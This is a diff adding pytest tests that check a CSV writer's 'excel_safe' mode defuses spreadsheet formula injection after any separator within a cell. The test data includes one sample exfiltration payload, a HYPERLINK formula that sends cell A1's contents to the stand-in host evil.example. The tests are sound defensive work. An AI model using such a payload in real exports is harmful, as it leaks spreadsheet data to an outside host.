@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import UTC, date, datetime
 from enum import StrEnum
 from uuid import UUID
@@ -84,3 +85,61 @@ def test_the_stamp_names_what_is_known() -> None:
     assert full.lines()[0] == "# log position: 42"
     site = stamp(None, None, None, date(2026, 2, 28))
     assert site.headers() == {"X-Cutoff": "2026-02-28"}
+
+
+SEPARATORS = (",", ";", "\t", "\r", "\n")
+
+
+def pieces(line: str) -> list[str]:
+    """Every text that could start a cell when a spreadsheet splits ``line`` at any separator
+    it might use (``,`` or ``;`` by locale, tab), ignoring quotes, as a parser that lost track of
+    them would; a piece's leading quotes are dropped (a quoted field's text starts after them)."""
+    out = [line]
+    for separator in SEPARATORS:
+        out = [p for part in out for p in part.split(separator)]
+    return [p.lstrip('"') for p in out]
+
+
+NUMBER = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")
+
+
+def starts_a_formula(text: str) -> bool:
+    return text.startswith(("=", "+", "-", "@")) and NUMBER.fullmatch(text) is None
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        'x;=HYPERLINK("http://evil.example/?d="&A1);y',  # the reviewer's: Excel in a ;-locale
+        "x,=1+1",
+        "a;+SUM(A1)",
+        "note\t@cmd",
+        "two\n=lines",
+        "cr\r-A1",
+        'say;"=1+1"',  # a quoted field after the split: its text starts with =
+        "=1;=2;@3",
+    ],
+)
+def test_excel_safe_neutralises_a_formula_after_any_separator_inside_a_cell(value: str) -> None:
+    text = write_csv(["v"], [[value]], excel_safe=True)
+    body = text.split("\r\n", 1)[1]
+    assert not [p for p in pieces(body) if starts_a_formula(p)], body
+    # Excel in a locale whose list separator is ";" reading the file
+    for row in csv.reader(io.StringIO(body, newline=""), delimiter=";"):
+        assert not [f for f in row if starts_a_formula(f.lstrip('"'))], row
+    # the raw value is still there without excel-safe mode
+    assert read_back(write_csv(["v"], [[value]], excel_safe=False))[1][0] == value
+
+
+def test_inside_a_cell_only_a_formula_start_after_a_separator_is_touched() -> None:
+    assert neutralise("x;=HYPERLINK(1);y") == "x;'=HYPERLINK(1);y"
+    assert neutralise("=a;b") == "'=a;b"
+    assert neutralise("ALT 3x ULN; -1.5 from baseline") == "ALT 3x ULN; -1.5 from baseline"
+    assert neutralise("change;-1.5;+2") == "change;-1.5;+2"  # plain numbers stay numbers
+    assert neutralise("a, b; c") == "a, b; c"
+
+
+@pytest.mark.parametrize("value", ["-\u0663", "+\u0661\u0662", "-1\u0660"])
+def test_only_ascii_digits_make_a_plain_number(value: str) -> None:
+    # Arabic-Indic digits are not a number to a spreadsheet: the sign starts a formula
+    assert neutralise(value) == "'" + value
